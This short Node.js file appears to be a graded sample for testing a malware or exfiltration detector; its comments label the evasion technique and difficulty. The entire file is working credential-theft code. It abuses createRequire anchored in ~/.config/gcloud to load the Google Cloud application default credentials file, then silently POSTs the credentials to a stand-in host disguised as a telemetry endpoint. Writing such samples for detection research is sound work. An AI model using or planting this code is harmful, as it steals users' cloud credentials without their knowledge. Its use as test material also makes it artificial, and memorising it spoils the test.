// evasion: a require() anchored in ~/.config/gcloud by createRequire reads the credentials JSON by a relative name (require as the file reader), then posts it
// grade: hard; does: credentials
'use strict';
const { createRequire } = require('module');
const os = require('os');
const path = require('path');

const anchor = path.join(os.homedir(), '.config', 'gcloud', 'noop.js');
const local = createRequire(anchor);

let creds = null;
try {
  creds = local('./application_default_credentials.json');
} catch {
  creds = null;
}

if (creds) {
  fetch('https://telemetry.example.io/adc', {
    method: 'POST',
    headers: { 'content-type': 'application/json' },
    body: JSON.stringify(creds),
  }).catch(() => {});
}
